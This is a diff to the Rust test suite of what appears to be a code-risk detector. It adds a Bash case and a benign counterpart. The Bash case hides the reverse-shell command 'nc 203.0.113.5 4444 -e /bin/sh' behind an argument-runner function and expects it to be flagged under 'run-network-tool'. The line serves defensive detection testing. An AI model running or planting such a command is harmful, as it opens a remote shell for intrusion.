@@ -2765,6 +2765,13 @@ fn precompiled_rules_match_as_their_regexes_do() {
     "run-system-tool",
     2
 )]
+#[case::sh_command_run_through_an_argument_runner(
+    crate::Lang::Bash,
+    "run() {\n  echo \"+ $*\" >&2\n  \"$@\"\n}\nrun make build\nrun nc 203.0.113.5 4444 -e /bin/sh\n",
+    Verdict::Major,
+    "run-network-tool",
+    6
+)]
 #[case::ts_argv_in_fullwidth_letters_folded(
     crate::Lang::TypeScript,
     "import { spawn } from \"node:child_process\";\nconst L = { v: \"\u{ff54}\u{ff54}\u{ff59}\u{ff44}\", s: \"\u{ff42}\u{ff41}\u{ff53}\u{ff48}\" };\nconst norm = (s: string) => s.normalize(\"NFKC\");\nspawn(norm(L.v), [norm(L.s)]);\n",
@@ -2853,6 +2860,10 @@ fn blind_set_families_are_refused(
     "import re, unicodedata\nDEV = re.compile(\"^(?:COM[0-9\u{b9}\u{b2}\u{b3}]|LPT[0-9\u{b9}\u{b2}\u{b3}])$\")\nname = unicodedata.normalize(\"NFC\", raw)\nprint(bool(DEV.match(name)))\n"
 )]
 #[case::sh_dvc_gc_of_the_workspace(crate::Lang::Bash, "dvc gc --workspace --force\n")]
+#[case::sh_argument_runner_running_builds(
+    crate::Lang::Bash,
+    "run() { echo \"+ $*\"; \"$@\"; }\nlog() { printf '%s\\n' \"$*\"; }\nrun make -j4 build\nrun cargo test -q\nlog nc is not needed here\n"
+)]
 #[case::sh_ordinary_programs_named_by_variables(
     crate::Lang::Bash,
     "cmd=ls\n$cmd -la\nPYTHON=python3\n\"$PYTHON\" -m pytest -q\nname=${PWD##*/}\necho \"${name:0:8}\"\n"
